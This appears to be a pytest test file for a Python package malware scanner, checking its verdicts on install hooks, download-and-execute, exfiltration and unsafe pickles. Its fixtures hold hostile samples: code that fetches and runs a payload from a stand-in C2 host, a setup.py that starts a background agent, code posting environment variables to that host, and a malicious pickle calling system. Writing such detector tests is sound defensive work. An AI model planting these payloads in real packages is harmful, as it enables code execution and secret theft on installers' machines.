"""Where code stands counts: beside a package, in its build, far along a large program."""

from __future__ import annotations

import pickle
from pathlib import Path

import pytest

from heimnetz_git.scan.engine import Report, scan

FETCH = (
    b"import os, urllib.request as u\nos.system(u.urlopen('http://c2.example.invalid').read())\n"
)
PROJECT = {"pyproject.toml": b"[project]\nname = 'clock'\n", "clock/__init__.py": b"x = 1\n"}


def severities(report: Report, rule: str) -> set[str]:
    """How bad the findings of a rule are."""
    return {str(it.severity) for it in report.findings if it.rule == rule}


@pytest.mark.parametrize(
    "file", ["tests/tool.py", "docs/conf.py", "tools/ci.py", "clock/test_x.py"]
)
def test_what_nothing_runs_is_a_note(file: str) -> None:
    """A tool beside a package is told of, and does not refuse the package."""
    report = scan({**PROJECT, file: FETCH})
    assert severities(report, "download-execute") == {"low"}
    assert report.verdict == "accept"


@pytest.mark.parametrize(
    "files",
    [
        {**PROJECT, "tests/tool.py": FETCH, "clock/__init__.py": b"import tests.tool\n"},
        {"tests/tool.py": FETCH},
        {**PROJECT, "conftest.py": FETCH},
        {"setup.py": b"", "tests/__init__.py": FETCH},
    ],
    ids=["imported", "no project", "conftest", "nothing else"],
)
def test_a_folder_s_name_excuses_nothing_that_runs(files: dict[str, bytes]) -> None:
    """What the package imports, what others start, and all that there is, is held in full."""
    assert scan(files).verdict == "reject"


ORDINARY = [
    "import subprocess\nsubprocess.check_output(['pkg-config', '--libs', 'x'])\n",
    "import os\nos.popen('brew --prefix libffi').read()\n",
    "import subprocess, sys\nsubprocess.call([sys.executable, '-Wd', 'clock/tests/run.py'])\n",
    "import os, subprocess\nsubprocess.Popen([os.environ.get('CC', 'cc'), '--version'])\n",
    "exec(open('clock/version.py').read())\n",
]


@pytest.mark.parametrize("code", ORDINARY)
def test_an_ordinary_build_is_left_alone(code: str) -> None:
    """Compilers, version files and look-ups of libraries are what builds are made of."""
    files = {"setup.py": f"from setuptools import setup\n{code}setup(name='clock')\n".encode()}
    assert scan({**PROJECT, **files}).verdict == "accept"


@pytest.mark.parametrize("root", ["", "clock-1.0/", "unpacked/clock-1.0/"])
def test_a_build_that_runs_something_else_is_refused(root: str) -> None:
    """However deep the project lies in what was unpacked."""
    code = b"import os\nfrom setuptools import setup\nos.system('nohup ./agent &')\nsetup()\n"
    report = scan({f"{root}setup.py": code})
    assert severities(report, "install-hook") == {"high"}


def test_a_flow_through_half_of_a_large_program_is_a_note() -> None:
    """Without order or objects the walk finds too much there; nearby it is certain."""
    hops = "".join(f"def f{n}(x):\n    return f{n + 1}(x)\n" for n in range(6))
    code = (
        "import os, requests\n" + hops + "def f6(x):\n    return dict(os.environ)\n"
        "def send():\n    requests.post('https://c2.example.invalid', json=f0(1))\n"
    )
    padding = ("def p():\n" + "    g(1)\n" * 50).encode() * 100
    small = scan({"clock/a.py": code.encode()})
    large = scan({"clock/a.py": code.encode(), "clock/b.py": padding})
    assert severities(small, "exfiltration") == {"high"}
    assert severities(large, "exfiltration") == {"low"}


def test_texts_in_a_pickle_are_not_taken_for_names(tmp_path: Path) -> None:
    """Only what the opcodes look up is called; words that stand beside are data."""
    data = pickle.dumps({"os": "system", "words": ["subprocess", "Popen"], "at": Path})
    assert scan({"clock/table.pkl": data}).findings == ()
    grave = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
    assert severities(scan({"clock/table.pkl": grave}), "unsafe-pickle") == {"high"}


ON_IMPORT = "import subprocess, urllib.request\n{}\n"


@pytest.mark.parametrize(
    ("code", "verdict"),
    [
        ("subprocess.run(['xdg-open', '/tmp/a'])", "review"),
        ("urllib.request.urlopen('https://count.example.org/hit')", "review"),
        ("if __name__ == '__main__':\n    subprocess.run(['xdg-open', '/tmp/a'])", "accept"),
        ("def show():\n    subprocess.run(['xdg-open', '/tmp/a'])", "accept"),
        ("urllib.request.urlopen('http://printer.lan/status')", "accept"),
    ],
)
def test_what_happens_on_import_is_for_a_person_to_judge(code: str, verdict: str) -> None:
    """Nobody asked for it yet; in functions, programs and the home network it is ordinary."""
    assert scan({"clock/__init__.py": ON_IMPORT.format(code).encode()}).verdict == verdict
